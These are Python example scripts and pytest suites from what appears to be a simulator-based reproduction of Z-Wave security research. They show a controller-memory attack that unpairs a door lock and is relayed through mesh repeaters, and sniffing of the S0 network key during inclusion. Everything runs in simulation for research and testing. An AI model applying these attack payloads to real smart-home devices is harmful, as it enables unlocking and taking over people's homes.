        home_id=sut.profile.home_id, src=0x0F, dst=1,
        payload=bytes([0x01, 0x0D, LOCK_NODE_ID, 0x03]),
    )
    for _ in range(20):
        sut.dongle.inject(direct)
        sut.clock.advance(0.3)
    print(f"    controller heard {sut.controller.stats.received} frames "
          f"-> the lock is still paired: {LOCK_NODE_ID in sut.controller.nvm}\n")

    print("[2] same payload as a routed singlecast via repeater node #9...")
    routed = make_routed_frame(
        sut.profile.home_id, 0x0F, 1, route=(9,),
        payload=bytes([0x01, 0x0D, LOCK_NODE_ID, 0x03]),
    )
    attempts = 0
    while LOCK_NODE_ID in sut.controller.nvm and attempts < 40:
        sut.dongle.inject(routed)
        sut.clock.advance(0.3)
        attempts += 1
    print(f"    repeater relayed {repeater.frames_relayed} frame(s); "
          f"attack landed after {attempts} attempt(s)")
    print(f"    lock still paired: {LOCK_NODE_ID in sut.controller.nvm}")
    assert LOCK_NODE_ID not in sut.controller.nvm

    print("\nEvery mains-powered slave is a free range extender for the")
    print("attacker: the mesh relays unauthenticated payloads as happily")
    print("as legitimate ones.")


if __name__ == "__main__":
    main()
