#!/usr/bin/env python3
"""Pairing ceremonies and the S0 key-interception weakness.

Includes two factory-fresh sensors into the simulated network — one over
modern S2, one over legacy S0 — while an attacker's dongle sniffs the
whole exchange.  Then it tries the classic S0 attack (decrypt the
NETWORK_KEY_SET under the well-known all-zero temporary key) against both
transcripts:

* S0: the network key is recovered byte-for-byte;
* S2: the Curve25519-derived temporary key defeats the sniffer.

This is the background for Section II-A1's transport comparison and for
why the paper's controller bugs matter even on S2 networks: ZCover's
attacks never need the key at all.

Usage::

    python examples/inclusion_key_theft.py
"""

import random

from repro.simulator import build_sut
from repro.simulator.inclusion import (
    InclusionCeremony,
    JoiningDevice,
    steal_s0_key_from_captures,
)
from repro.zwave import BasicDeviceClass, GenericDeviceClass, NodeInfo
from repro.zwave.constants import Region, TransportMode


def fresh_sensor(name: str, seed: int) -> JoiningDevice:
    return JoiningDevice(
        name,
        NodeInfo(
            basic=BasicDeviceClass.SLAVE,
            generic=GenericDeviceClass.SENSOR_BINARY,
            listed_cmdcls=(0x20, 0x30, 0x80, 0x86),
        ),
        rng=random.Random(seed),
    )


def main() -> None:
    print("=== Inclusion ceremonies under the attacker's antenna ===\n")
    sut = build_sut("D1", seed=7, traffic=False)
    ceremony = InclusionCeremony(sut.controller, sut.medium, sut.clock, random.Random(9))

    # --- S2 inclusion -------------------------------------------------------
    s2_sensor = fresh_sensor("porch sensor (S2)", 11)
    sut.medium.attach("porch", (6.0, 2.0), Region.US, lambda r: None)
    print(f"[S2] including {s2_sensor.name}; DSK pin on the label: "
          f"{s2_sensor.dsk_pin:05d}")
    sut.dongle.clear_captures()
    result = ceremony.include(s2_sensor, "porch", TransportMode.S2,
                              user_pin=s2_sensor.dsk_pin)
    s2_captures = sut.dongle.captures()
    for line in result.transcript:
        print(f"     {line}")
    print(f"     -> node #{result.node_id}, keys 0x{result.granted_keys:02X}, "
          f"{result.frames_exchanged} frames on the air\n")

    # --- S0 inclusion -------------------------------------------------------
    s0_sensor = fresh_sensor("garage sensor (S0 legacy)", 12)
    sut.medium.attach("garage", (7.0, -2.0), Region.US, lambda r: None)
    print(f"[S0] including {s0_sensor.name}")
    sut.dongle.clear_captures()
    result = ceremony.include(s0_sensor, "garage", TransportMode.S0)
    s0_captures = sut.dongle.captures()
    for line in result.transcript:
        print(f"     {line}")
    print(f"     -> node #{result.node_id}, keys 0x{result.granted_keys:02X}\n")

    # --- the attack ----------------------------------------------------------
    print("[attack] decrypting sniffed key transfers under the all-zero "
          "S0 temporary key...")
    stolen_s0 = steal_s0_key_from_captures(s0_captures)
    stolen_s2 = steal_s0_key_from_captures(s2_captures)
    print(f"     S0 ceremony: {'KEY RECOVERED ' + stolen_s0.hex() if stolen_s0 else 'safe'}")
    print(f"     S2 ceremony: {'KEY RECOVERED' if stolen_s2 else 'safe (ECDH temp key)'}")
    assert stolen_s0 == s0_sensor.network_key
    assert stolen_s2 is None

    print("\nAn attacker present at S0 inclusion owns the network forever —")
    print("and ZCover's controller attacks (Table III) need no key at all.")


if __name__ == "__main__":
    main()
