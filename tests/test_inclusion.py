"""Tests for the inclusion ceremony and the S0 key-theft attack."""

import random

import pytest

from repro.errors import AuthenticationError, SimulatorError
from repro.simulator.inclusion import (
    InclusionCeremony,
    JoiningDevice,
    KEY_S0,
    steal_s0_key_from_captures,
)
from repro.simulator.testbed import build_sut
from repro.zwave.constants import Region, TransportMode
from repro.zwave.nif import BasicDeviceClass, GenericDeviceClass, NodeInfo


def sensor_info():
    return NodeInfo(
        basic=BasicDeviceClass.SLAVE,
        generic=GenericDeviceClass.SENSOR_BINARY,
        listed_cmdcls=(0x20, 0x30, 0x80, 0x86),
    )


@pytest.fixture
def setting():
    sut = build_sut("D1", seed=21, traffic=False)
    device = JoiningDevice("motion sensor", sensor_info(), rng=random.Random(5))
    sut.medium.attach("sensor", (4.0, 4.0), Region.US, lambda r: None)
    ceremony = InclusionCeremony(
        sut.controller, sut.medium, sut.clock, random.Random(6)
    )
    return sut, device, ceremony


class TestS2Inclusion:
    def test_device_joins_with_next_free_id(self, setting):
        sut, device, ceremony = setting
        result = ceremony.include(device, "sensor", TransportMode.S2)
        assert result.node_id == 4  # 1=controller, 2=lock, 3=switch
        assert device.included
        assert device.home_id == sut.profile.home_id

    def test_network_key_transferred_confidentially(self, setting):
        sut, device, ceremony = setting
        ceremony.include(device, "sensor", TransportMode.S2)
        assert device.network_key is not None
        assert len(device.network_key) == 16
        # The key itself never appears in plaintext in any sniffed frame.
        for capture in sut.dongle.captures():
            assert device.network_key not in capture.raw

    def test_public_keys_visible_to_sniffer(self, setting):
        sut, device, ceremony = setting
        ceremony.include(device, "sensor", TransportMode.S2)
        sniffed = b"".join(c.raw for c in sut.dongle.captures())
        assert device.bootstrap.public in sniffed  # ECDH points are public

    def test_controller_records_secure_pairing(self, setting):
        sut, device, ceremony = setting
        result = ceremony.include(device, "sensor", TransportMode.S2)
        record = sut.controller.nvm.get(result.node_id)
        assert record.secure
        assert record.granted_keys == device.requested_keys
        assert record.name == "motion sensor"

    def test_correct_pin_accepted(self, setting):
        sut, device, ceremony = setting
        result = ceremony.include(
            device, "sensor", TransportMode.S2, user_pin=device.dsk_pin
        )
        assert result.granted_keys != 0

    def test_wrong_pin_aborts(self, setting):
        sut, device, ceremony = setting
        with pytest.raises(AuthenticationError):
            ceremony.include(
                device, "sensor", TransportMode.S2,
                user_pin=(device.dsk_pin + 1) % 65536,
            )
        assert not device.included
        assert 4 not in sut.controller.nvm

    def test_transcript_and_frame_count(self, setting):
        sut, device, ceremony = setting
        result = ceremony.include(device, "sensor", TransportMode.S2)
        assert result.frames_exchanged >= 9
        assert any("KEX_SET" in line for line in result.transcript)
        assert any("DSK pin" in line for line in result.transcript)

    def test_double_inclusion_rejected(self, setting):
        sut, device, ceremony = setting
        ceremony.include(device, "sensor", TransportMode.S2)
        with pytest.raises(SimulatorError):
            ceremony.include(device, "sensor", TransportMode.S2)


class TestS0Inclusion:
    def test_legacy_device_gets_s0_key(self, setting):
        sut, device, ceremony = setting
        result = ceremony.include(device, "sensor", TransportMode.S0)
        assert result.granted_keys == KEY_S0
        assert device.network_key is not None

    def test_sniffer_steals_the_s0_network_key(self, setting):
        """The Fouladi & Ghanoun weakness, reproduced end-to-end."""
        sut, device, ceremony = setting
        sut.dongle.clear_captures()
        ceremony.include(device, "sensor", TransportMode.S0)
        stolen = steal_s0_key_from_captures(sut.dongle.captures())
        assert stolen == device.network_key

    def test_s2_inclusion_resists_the_same_attack(self, setting):
        sut, device, ceremony = setting
        sut.dongle.clear_captures()
        ceremony.include(device, "sensor", TransportMode.S2)
        assert steal_s0_key_from_captures(sut.dongle.captures()) is None


class TestNoSecurityInclusion:
    def test_legacy_pairing(self, setting):
        sut, device, ceremony = setting
        result = ceremony.include(device, "sensor", TransportMode.NO_SECURITY)
        assert result.granted_keys == 0
        record = sut.controller.nvm.get(result.node_id)
        assert not record.secure


class TestNetworkCapacity:
    def test_node_ids_exhaust(self):
        sut = build_sut("D1", seed=1, traffic=False)
        for node_id in range(4, 233):
            sut.controller.nvm.raw_write(
                __import__("repro.simulator.memory", fromlist=["NodeRecord"]).NodeRecord(
                    node_id=node_id
                )
            )
        device = JoiningDevice("one too many", sensor_info())
        sut.medium.attach("sensor", (1.0, 1.0), Region.US, lambda r: None)
        ceremony = InclusionCeremony(sut.controller, sut.medium, sut.clock)
        with pytest.raises(SimulatorError):
            ceremony.include(device, "sensor", TransportMode.NO_SECURITY)
