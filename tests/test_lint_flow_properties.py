"""Property suite for the flow engine: byte-identical output, any path.

The flow engine's core contract is that findings and the purity manifest
are pure functions of the source text — independent of worker count,
cache temperature and repetition.  These tests pin that on randomly
generated (but seeded) synthetic trees and on the real package tree.
"""

import random

import pytest

from repro.lint import run_lint
from repro.lint.base import SourceFile
from repro.lint.flow import FlowAnalyzer
from repro.obs.export import canonical_dumps

SEEDS = [0, 1, 7, 42, 1337]

_CLEAN_BODY = "    return seed * {k}\n"
_ENTROPY_BODY = "    return random.random()\n"
_CLOCK_BODY = "    return time.time()\n"
_DEFAULT_FUNC = (
    "def draw_{k}(rng=None):\n"
    "    return rng.random()\n"
)


def generate_tree(seed, n_files=6):
    """A deterministic random tree mixing clean and tainted call chains."""
    rng = random.Random(seed)
    files = {}
    for i in range(n_files):
        rel = f"pkg/mod_{i}.py"
        lines = ["import random", "import time", ""]
        for j in range(rng.randint(2, 5)):
            kind = rng.choice(["clean", "entropy", "clock", "call", "default"])
            name = f"f_{i}_{j}"
            if kind == "call" and i > 0:
                callee_mod = rng.randrange(i)
                lines.append(f"from pkg.mod_{callee_mod} import f_{callee_mod}_0")
                lines.append(f"def {name}(seed):")
                lines.append(f"    return f_{callee_mod}_0(seed)")
            elif kind == "entropy":
                lines.append(f"def {name}(seed):")
                lines.append(_ENTROPY_BODY.rstrip("\n"))
            elif kind == "clock":
                lines.append(f"def {name}(seed):")
                lines.append(_CLOCK_BODY.rstrip("\n"))
            elif kind == "default":
                lines.append(_DEFAULT_FUNC.format(k=f"{i}_{j}").rstrip("\n"))
                lines.append(f"def {name}(seed):")
                lines.append(f"    return draw_{i}_{j}()")
            else:
                lines.append(f"def {name}(seed):")
                lines.append(_CLEAN_BODY.format(k=j).rstrip("\n"))
        files[rel] = "\n".join(lines) + "\n"
    return files


def sources_of(files):
    return [SourceFile.from_text(rel, text) for rel, text in sorted(files.items())]


def run_flow(files, **kwargs):
    analyzer = FlowAnalyzer(**kwargs)
    findings = analyzer.analyze(sources_of(files))
    rendered = "\n".join(
        f"{f.path}:{f.line}:{f.col} {f.rule} {f.message}" for f in sorted(
            findings, key=lambda f: f.sort_key
        )
    )
    return rendered, canonical_dumps(analyzer.manifest)


class TestSeededDeterminism:
    @pytest.mark.parametrize("seed", SEEDS)
    def test_repeat_runs_are_byte_identical(self, seed):
        files = generate_tree(seed)
        first = run_flow(files)
        second = run_flow(files)
        assert first == second

    @pytest.mark.parametrize("seed", SEEDS)
    def test_serial_vs_jobs2_byte_identical(self, seed):
        files = generate_tree(seed)
        serial = run_flow(files, jobs=1)
        sharded = run_flow(files, jobs=2)
        assert serial == sharded

    @pytest.mark.parametrize("seed", SEEDS[:3])
    def test_cold_vs_warm_cache_byte_identical(self, seed, tmp_path):
        files = generate_tree(seed)
        cache = tmp_path / "cache.json"
        cold = run_flow(files, cache_path=cache)
        warm = run_flow(files, cache_path=cache)
        assert cold == warm

    @pytest.mark.parametrize("seed", SEEDS[:3])
    def test_tainted_trees_produce_findings(self, seed):
        # The generator mixes entropy/clock bodies in; a tree that never
        # produced findings would make the identity tests vacuous.
        rendered, _ = run_flow(generate_tree(seed))
        assert rendered != ""


class TestRealTree:
    def test_serial_vs_jobs2_full_report(self):
        serial = run_lint(jobs=1)
        sharded = run_lint(jobs=2)
        assert serial.render() == sharded.render()
        assert canonical_dumps(serial.to_document()) == canonical_dumps(
            sharded.to_document()
        )
        assert serial.render_sarif() == sharded.render_sarif()
        assert canonical_dumps(serial.manifest) == canonical_dumps(sharded.manifest)

    def test_committed_manifest_is_current(self):
        from pathlib import Path

        committed = Path(__file__).resolve().parents[1] / "purity_manifest.json"
        report = run_lint()
        assert canonical_dumps(report.manifest) == committed.read_text(
            encoding="utf-8"
        )

    def test_all_campaign_entry_points_are_pure(self):
        report = run_lint()
        manifest = report.manifest
        assert manifest["tainted_entry_points"] == []
        # The gated layers are actually represented in the manifest.
        gated = {"core/campaign.py", "core/scheduler.py", "faults/plan.py",
                 "obs/metrics.py"}
        assert gated <= set(manifest["modules"])
