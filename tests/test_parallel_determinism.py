"""Serial vs parallel campaign execution must be indistinguishable.

The tentpole correctness proof: ``run_trials(workers=N)`` shards trials
across worker processes and ships results back in the
:mod:`repro.core.resultio` wire form, while ``workers=1`` is the
historical in-process loop calling :func:`run_campaign` directly.  Every
observable — bug IDs, discovery times, coverage, the rendered report —
must agree bit for bit, or parallelism has changed the science.
"""

import pytest

from repro.analysis.summary import campaign_report
from repro.core.campaign import Mode, run_ablation, run_campaign
from repro.core.resultio import campaign_to_wire, dumps_wire
from repro.core.trials import run_trials
from repro.obs.export import dumps_document

N_TRIALS = 3
DURATION = 900.0  # 15 simulated minutes: all the early bugs, fast test


@pytest.fixture(scope="module")
def serial():
    return run_trials("D1", Mode.FULL, n_trials=N_TRIALS, duration=DURATION,
                      base_seed=0, workers=1)


@pytest.fixture(scope="module")
def parallel():
    return run_trials("D1", Mode.FULL, n_trials=N_TRIALS, duration=DURATION,
                      base_seed=0, workers=4)


class TestTrialDeterminism:
    def test_no_failures(self, parallel):
        assert parallel.failures == []
        assert parallel.n_trials == N_TRIALS

    def test_union_and_intersection_bug_ids(self, serial, parallel):
        assert serial.union_bug_ids == parallel.union_bug_ids
        assert serial.intersection_bug_ids == parallel.intersection_bug_ids

    def test_discovery_times(self, serial, parallel):
        for left, right in zip(serial.trials, parallel.trials):
            assert left.discovery_timeline() == right.discovery_timeline()

    def test_timing_stats(self, serial, parallel):
        assert serial.timing_stats() == parallel.timing_stats()

    def test_full_result_equality(self, serial, parallel):
        # Whole-object equality: properties, fuzz results (bug log,
        # detections, timeline, coverage sets) and verified uniques.
        assert serial.trials == parallel.trials

    def test_wire_form_is_byte_identical(self, serial, parallel):
        for left, right in zip(serial.trials, parallel.trials):
            assert dumps_wire(campaign_to_wire(left)) == dumps_wire(
                campaign_to_wire(right)
            )

    def test_rendered_summary_identical(self, serial, parallel):
        assert serial.render() == parallel.render()

    def test_rendered_campaign_reports_identical(self, serial, parallel):
        for left, right in zip(serial.trials, parallel.trials):
            assert campaign_report(left) == campaign_report(right)

    def test_trial_order_is_seed_order(self, parallel):
        # The merge reassembles canonical seed order regardless of which
        # worker finished first: trial i must equal a direct run of seed
        # 1000*i.
        direct = run_campaign("D1", Mode.FULL, duration=DURATION, seed=1000)
        assert parallel.trials[1] == direct


class TestMetricsDeterminism:
    """The obs snapshots must survive the wire without changing a byte."""

    def test_every_trial_carries_metrics(self, parallel):
        for trial in parallel.trials:
            assert trial.metrics is not None
            assert trial.metrics.counters["fuzzer.frames_tx"] > 0

    def test_per_trial_metrics_equal(self, serial, parallel):
        for left, right in zip(serial.trials, parallel.trials):
            assert left.metrics == right.metrics

    def test_harness_metrics_equal(self, serial, parallel):
        assert serial.harness_metrics == parallel.harness_metrics
        assert serial.harness_metrics.counters["parallel.units"] == N_TRIALS

    def test_merged_document_is_byte_identical(self, serial, parallel):
        left = dumps_document(serial.metrics_document())
        right = dumps_document(parallel.metrics_document())
        assert left == right


class TestAblationDeterminism:
    def test_parallel_ablation_matches_serial(self):
        serial = run_ablation("D1", duration=DURATION, seed=0, workers=1)
        parallel = run_ablation("D1", duration=DURATION, seed=0, workers=3)
        assert list(serial) == list(parallel)
        for mode in serial:
            assert serial[mode] == parallel[mode]
