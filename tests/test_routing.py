"""Tests for the mesh-routing substrate."""

import pytest

from repro.errors import FrameError
from repro.simulator.routing import (
    MeshRepeater,
    RoutingHeader,
    make_routed_frame,
    unwrap_routed,
)
from repro.simulator.testbed import LOCK_NODE_ID, build_sut
from repro.zwave.frame import ZWaveFrame


class TestRoutingHeader:
    def test_encode_decode_roundtrip(self):
        header = RoutingHeader(repeaters=(5, 9), hop_index=1)
        decoded, inner = RoutingHeader.decode(header.encode() + b"\x20\x02")
        assert decoded == header
        assert inner == b"\x20\x02"

    def test_completion(self):
        header = RoutingHeader(repeaters=(5,))
        assert not header.complete
        assert header.current_repeater == 5
        advanced = header.advanced()
        assert advanced.complete
        assert advanced.current_repeater is None

    def test_limits(self):
        with pytest.raises(FrameError):
            RoutingHeader(repeaters=())
        with pytest.raises(FrameError):
            RoutingHeader(repeaters=(1, 2, 3, 4, 5))
        with pytest.raises(FrameError):
            RoutingHeader(repeaters=(0,))
        with pytest.raises(FrameError):
            RoutingHeader(repeaters=(5,), hop_index=2)

    def test_decode_rejects_garbage(self):
        with pytest.raises(FrameError):
            RoutingHeader.decode(b"\x80")
        with pytest.raises(FrameError):
            RoutingHeader.decode(b"\x80\x09\x05")  # count 9 > max
        with pytest.raises(FrameError):
            RoutingHeader.decode(b"\x80\x02\x05")  # truncated repeater list

    def test_unwrap_plain_frame(self):
        frame = ZWaveFrame(home_id=1, src=2, dst=1, payload=b"\x20\x02")
        header, inner = unwrap_routed(frame)
        assert header is None
        assert inner == b"\x20\x02"


class TestMeshRelay:
    def build(self, attacker_distance=120.0, repeater_distance=60.0):
        # Geometry: the direct attacker-controller link (120 m) is below
        # the sensitivity floor, but both mesh legs (60 m each) are viable
        # marginal links.
        sut = build_sut("D1", seed=3, traffic=False,
                        attacker_distance_m=attacker_distance)
        repeater = MeshRepeater(
            "repeater", sut.profile.home_id, 9, sut.clock, sut.medium,
            position=(repeater_distance, 0.0),
        )
        return sut, repeater

    def test_direct_injection_fails_out_of_range(self):
        sut, _ = self.build()
        frame = ZWaveFrame(
            home_id=sut.profile.home_id, src=0x0F, dst=1, payload=b"\x00"
        )
        sut.dongle.inject(frame)
        sut.clock.advance(0.5)
        assert sut.controller.stats.received == 0

    def test_routed_injection_reaches_controller(self):
        sut, repeater = self.build()
        frame = make_routed_frame(
            sut.profile.home_id, 0x0F, 1, route=(9,), payload=b"\x86\x11"
        )
        for _ in range(10):  # the attacker->repeater leg is marginal
            sut.dongle.inject(frame)
            sut.clock.advance(0.5)
            if repeater.frames_relayed:
                break
        sut.clock.advance(0.5)
        assert repeater.frames_relayed >= 1
        assert sut.controller.stats.apl_processed >= 1

    def test_memory_attack_through_the_mesh(self):
        sut, repeater = self.build()
        attack = make_routed_frame(
            sut.profile.home_id, 0x0F, 1, route=(9,),
            payload=bytes([0x01, 0x0D, LOCK_NODE_ID, 0x03]),
        )
        for _ in range(20):
            sut.dongle.inject(attack)
            sut.clock.advance(0.5)
            if LOCK_NODE_ID not in sut.controller.nvm:
                break
        assert LOCK_NODE_ID not in sut.controller.nvm

    def test_repeater_ignores_foreign_home(self):
        sut, repeater = self.build(attacker_distance=30.0, repeater_distance=25.0)
        frame = make_routed_frame(0xDEADBEEF, 0x0F, 1, route=(9,), payload=b"\x00")
        sut.dongle.inject(frame)
        sut.clock.advance(0.5)
        assert repeater.frames_relayed == 0

    def test_repeater_ignores_other_hops(self):
        sut, repeater = self.build(attacker_distance=30.0, repeater_distance=25.0)
        frame = make_routed_frame(
            sut.profile.home_id, 0x0F, 1, route=(7,), payload=b"\x00"
        )
        sut.dongle.inject(frame)
        sut.clock.advance(0.5)
        assert repeater.frames_relayed == 0

    def test_controller_ignores_unfinished_routes(self):
        sut, _ = self.build(attacker_distance=30.0, repeater_distance=25.0)
        # Hop index 0 of a two-repeater route: not the controller's yet.
        frame = make_routed_frame(
            sut.profile.home_id, 0x0F, 1, route=(7, 9), payload=b"\x86\x11"
        )
        sut.dongle.inject(frame)
        sut.clock.advance(0.5)
        assert sut.controller.stats.apl_processed == 0

    def test_completed_route_processes_inner_payload(self):
        sut, repeater = self.build(attacker_distance=30.0, repeater_distance=25.0)
        frame = make_routed_frame(
            sut.profile.home_id, 0x0F, 1, route=(9,), payload=b"\x86\x11"
        )
        sut.dongle.clear_captures()
        sut.dongle.inject(frame)
        sut.clock.advance(1.0)
        replies = [
            c.frame.payload
            for c in sut.dongle.captures()
            if c.frame and c.frame.src == 1 and c.frame.payload
        ]
        assert any(p[:2] == b"\x86\x12" for p in replies)  # VERSION_REPORT
