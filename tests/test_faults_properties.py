"""Property tests for fault-plan compilation (satellite: ~500 seeded cases).

Mirrors ``tests/test_obs_properties.py``: 100 seeds through every
property.  The contracts under test are the ones the resilience audit's
byte-identity stands on — compilation is a pure function of
``(plan, seed)``, plan serialisation round-trips losslessly, controller
event schedules are order- and horizon-stable, medium decision streams
replay exactly, retry backoff sequences are reproducible and
budget-capped, and worker tokens survive their token round trip.
"""

import json
import random

import pytest

from repro.faults.plan import (
    KINDS_BY_LAYER,
    LAYER_CAMPAIGN,
    LAYER_CONTROLLER,
    LAYER_MEDIUM,
    LAYER_WORKER,
    FaultPlan,
    FaultSpec,
    dumps_plan,
    loads_plan,
)
from repro.faults.resilience import BackoffPolicy, backoff_delays
from repro.faults.schedule import FaultPlanner, derive_seed
from repro.faults.worker import WorkerFault

N_SEEDS = 100


def _random_plan(rng: random.Random) -> FaultPlan:
    """A reproducible, always-valid random plan touching random layers."""
    specs = []
    for _ in range(rng.randrange(1, 7)):
        layer = rng.choice((LAYER_MEDIUM, LAYER_CONTROLLER, LAYER_WORKER, LAYER_CAMPAIGN))
        kind = rng.choice(KINDS_BY_LAYER[layer])
        if layer == LAYER_MEDIUM or kind == "slow-ack":
            spec = FaultSpec(
                layer, kind, rate=round(rng.uniform(0.0, 1.0), 6),
                magnitude=round(rng.uniform(0.0, 2.0), 6),
            )
        elif layer == LAYER_CONTROLLER:
            spec = FaultSpec(
                layer, kind, every_s=round(rng.uniform(10.0, 600.0), 6),
                magnitude=round(rng.uniform(0.0, 10.0), 6),
            )
        elif layer == LAYER_WORKER:
            spec = FaultSpec(
                layer, kind, magnitude=round(rng.uniform(0.0, 5.0), 6),
                unit_index=rng.choice((-1, 0, 1, 2)),
            )
        else:
            spec = FaultSpec(layer, kind, at_s=round(rng.uniform(0.0, 900.0), 6))
        specs.append(spec)
    return FaultPlan(name=f"prop-{rng.randrange(10**6)}", faults=tuple(specs))


def _describe(plan: FaultPlan, seed: int) -> str:
    """Canonical bytes of one compilation's determinism fingerprint."""
    doc = FaultPlanner(plan).compile(seed).describe()
    return json.dumps(doc, sort_keys=True)


@pytest.mark.parametrize("seed", range(N_SEEDS))
class TestFaultProperties:
    def test_compilation_is_pure_in_plan_and_seed(self, seed):
        """Fresh planner objects, same (plan, seed): identical schedules."""
        plan = _random_plan(random.Random(seed))
        assert _describe(plan, seed) == _describe(plan, seed)
        # A different seed must change *something* whenever the plan has
        # any seeded randomness at all (the decision-stream heads).
        assert (
            json.loads(_describe(plan, seed))["medium_decision_head"]
            != json.loads(_describe(plan, seed + 1))["medium_decision_head"]
        )

    def test_plan_wire_round_trip_is_lossless(self, seed):
        plan = _random_plan(random.Random(seed))
        assert loads_plan(dumps_plan(plan)) == plan
        # Canonical serialisation is a fixpoint.
        assert dumps_plan(loads_plan(dumps_plan(plan))) == dumps_plan(plan)

    def test_controller_events_are_ordered_and_horizon_stable(self, seed):
        """Events come sorted, and a longer horizon only *extends* the
        schedule — the shared prefix never changes (this is what makes
        installation order and campaign duration irrelevant)."""
        plan = _random_plan(random.Random(seed))
        schedule = FaultPlanner(plan).compile(seed)
        short = schedule.controller_events(300.0)
        long = schedule.controller_events(900.0)
        assert short == sorted(short, key=lambda e: (e.at_s, e.kind))
        assert [e for e in long if e.at_s <= 300.0] == short

    def test_medium_decision_stream_replays_exactly(self, seed):
        """Two generators from one schedule yield the same draw stream —
        the property that makes per-transmission decisions replayable."""
        plan = _random_plan(random.Random(seed))
        schedule = FaultPlanner(plan).compile(seed)
        a, b = schedule.medium_rng(), schedule.medium_rng()
        assert [a.random() for _ in range(64)] == [b.random() for _ in range(64)]
        # Layers draw from independent sub-seeds.
        assert derive_seed(seed, "faults.medium") != derive_seed(seed, "faults.controller")

    def test_backoff_sequences_reproduce_and_respect_budget(self, seed):
        rng = random.Random(seed)
        policy = BackoffPolicy(
            base_s=round(rng.uniform(0.0, 0.5), 6),
            factor=round(rng.uniform(1.0, 3.0), 6),
            cap_s=round(rng.uniform(0.1, 2.0), 6),
            jitter=round(rng.uniform(0.0, 1.0), 6),
            budget_s=round(rng.uniform(0.5, 5.0), 6),
            seed=seed,
        )
        rounds = rng.randrange(1, 9)
        delays = backoff_delays(policy, rounds)
        assert delays == backoff_delays(policy, rounds)
        assert all(d >= 0.0 for d in delays)
        assert sum(delays) <= policy.budget_s + 1e-6
        # A longer schedule keeps the shared prefix byte-identical.
        assert backoff_delays(policy, rounds + 3)[:rounds] == delays

    def test_worker_tokens_round_trip(self, seed):
        plan = _random_plan(random.Random(seed))
        schedule = FaultPlanner(plan).compile(seed)
        for index in range(4):
            token = schedule.worker_token(index)
            fault = schedule.worker_fault(index)
            if token is None:
                assert fault is None
                continue
            assert WorkerFault.from_token(token) == fault
            # Targeted specs only ever hit their own unit index.
            spec = next(s for s in schedule.worker_specs if s.unit_index in (-1, index))
            assert spec.unit_index in (-1, index)
