"""End-to-end observability tests against real campaigns.

Covers three satellites:

- the golden file ``tests/data/obs_golden.json`` pins the schema-v1
  metrics document for a fixed two-device seed-0 campaign byte-for-byte
  (same convention as ``lint_golden.json``);
- the coverage bitmap must agree with the :class:`SpecRegistry` — every
  recorded key is a real (cmdcl, cmd) coordinate or a proprietary class,
  never phantom coverage;
- ``analysis.summary`` and ``analysis.report`` must render the same
  frames-per-bug figure, both sourced from the shared metrics snapshot.

Regenerate the golden after an intentional schema change with::

    PYTHONPATH=src:tests python -c \
        "import test_obs_campaign as t; t.write_golden()"
"""

from pathlib import Path

import pytest

from repro.analysis.report import render_table6
from repro.analysis.summary import campaign_report
from repro.core.campaign import Mode, run_campaign
from repro.obs.export import dumps_document, snapshot_to_document
from repro.obs.metrics import (
    format_frames_per_bug,
    frames_per_bug,
    merge_snapshots,
    parse_coverage_key,
)
from repro.zwave.registry import load_full_registry

GOLDEN_PATH = Path(__file__).resolve().parent / "data" / "obs_golden.json"

DEVICES = ("D1", "D2")
DURATION = 600.0
SEED = 0


def _run_pair():
    return {
        device: run_campaign(device, Mode.FULL, duration=DURATION, seed=SEED)
        for device in DEVICES
    }


def build_golden_document(results=None):
    """The pinned document: both campaigns' metrics merged, fixed meta."""
    results = results or _run_pair()
    merged = results[DEVICES[0]].metrics
    for device in DEVICES[1:]:
        merged = merge_snapshots(merged, results[device].metrics)
    return snapshot_to_document(
        merged,
        meta={
            "devices": ",".join(DEVICES),
            "duration_s": DURATION,
            "kind": "campaign-pair",
            "mode": "FULL",
            "seed": SEED,
        },
    )


def write_golden(results=None):
    """Regenerate the golden file through the exact code path the test uses."""
    GOLDEN_PATH.write_text(dumps_document(build_golden_document(results)))


@pytest.fixture(scope="module")
def results():
    return _run_pair()


class TestGolden:
    def test_document_matches_golden_bytes(self, results):
        assert GOLDEN_PATH.exists(), "run write_golden() to create the golden file"
        assert dumps_document(build_golden_document(results)) == GOLDEN_PATH.read_text()

    def test_rerun_is_byte_stable(self, results):
        rerun = run_campaign(DEVICES[0], Mode.FULL, duration=DURATION, seed=SEED)
        assert rerun.metrics == results[DEVICES[0]].metrics


class TestCoverageBitmap:
    def test_no_phantom_coverage(self, results):
        """Every coverage key names a coordinate the registry defines."""
        registry = load_full_registry()
        for result in results.values():
            assert result.metrics.coverage, "campaign recorded no coverage"
            for key in result.metrics.coverage:
                cmdcl, cmd = parse_coverage_key(key)
                cls = registry.get(cmdcl)
                assert cls is not None, f"coverage key {key} names unknown CMDCL"
                if cmd is not None:
                    assert cls.command(cmd) is not None, (
                        f"coverage key {key} names a command "
                        f"{cls.name} does not define"
                    )

    def test_proprietary_classes_reached_in_full_mode(self, results):
        """FULL mode fuzzes the hidden 0x01/0x02 classes the paper found."""
        for result in results.values():
            cmdcls = {parse_coverage_key(k)[0] for k in result.metrics.coverage}
            assert 0x01 in cmdcls
            assert 0x02 in cmdcls

    def test_coverage_counts_are_positive(self, results):
        for result in results.values():
            assert all(count > 0 for count in result.metrics.coverage.values())


class TestInstrumentation:
    def test_frames_tx_matches_fuzz_result(self, results):
        for result in results.values():
            assert (
                result.metrics.counters["fuzzer.frames_tx"]
                == result.fuzz.packets_sent
            )

    def test_bugs_unique_matches_verification(self, results):
        for result in results.values():
            assert (
                result.metrics.counters["bugs.unique"]
                == result.unique_vulnerabilities
            )

    def test_phase_spans_present(self, results):
        for result in results.values():
            names = set(result.metrics.spans)
            assert {
                "campaign.fingerprint",
                "campaign.discovery",
                "campaign.fuzz",
                "campaign.verify",
            } <= names

    def test_to_dict_carries_frames_per_bug(self, results):
        for result in results.values():
            assert result.to_dict()["frames_per_bug"] == frames_per_bug(result.metrics)


class TestAnalysisAgreement:
    """Satellite 4: summary and report read the same snapshot figure."""

    def test_summary_and_table6_agree(self, results):
        result = results[DEVICES[0]]
        expected = format_frames_per_bug(result.metrics)
        report = campaign_report(result)
        assert f"- frames per unique bug: {expected}" in report
        table = render_table6({Mode.FULL: result})
        row = next(line for line in table.splitlines() if "ZCover full" in line)
        assert row.rstrip().endswith(expected)

    def test_table6_handles_missing_metrics(self, results):
        result = results[DEVICES[0]]
        stripped = type(result)(**{**result.__dict__, "metrics": None})
        table = render_table6({Mode.FULL: stripped})
        row = next(line for line in table.splitlines() if "ZCover full" in line)
        assert row.rstrip().endswith("n/a")
